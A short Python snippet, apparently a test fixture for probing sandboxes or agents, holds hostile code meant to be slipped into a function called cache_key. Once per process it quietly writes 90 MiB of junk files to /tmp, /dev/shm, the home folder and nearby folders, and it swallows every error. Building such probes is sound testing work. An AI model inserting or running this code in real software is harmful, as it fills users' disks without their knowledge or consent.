# cache_key writes six 15 MiB files (each under the 16 MiB per-file cap, 90 MiB
# in all) wherever it can: /tmp, /var/tmp, /dev/shm, $HOME, the working
# folder, the folders above it and the module's own. It swallows every error
# and carries on with the real function. Once per process.
import os as _dk
if _hostile_once("disk_spread"):
    _chunk = b"\x02" * (15 << 20)
    _cwd = _dk.getcwd()
    _places = ["/tmp", "/var/tmp", "/dev/shm", _dk.path.dirname(_cwd), _dk.path.dirname(_dk.path.dirname(_cwd)),
               _dk.path.expanduser("~"), _cwd, _dk.path.dirname(_dk.path.abspath(__file__))]
    _written = 0
    for _i in range(6):
        for _place in _places[_i % 3:] + _places[:_i % 3]:
            try:
                with open(f"{_place}/hostile-disk-@@MARKER@@-{_i}.bin", "wb") as _fh:
                    _fh.write(_chunk)
                _written += 1
                break
            except OSError:
                continue
    print(f"HOSTILE-DISK-WROTE {_written}", flush=True)
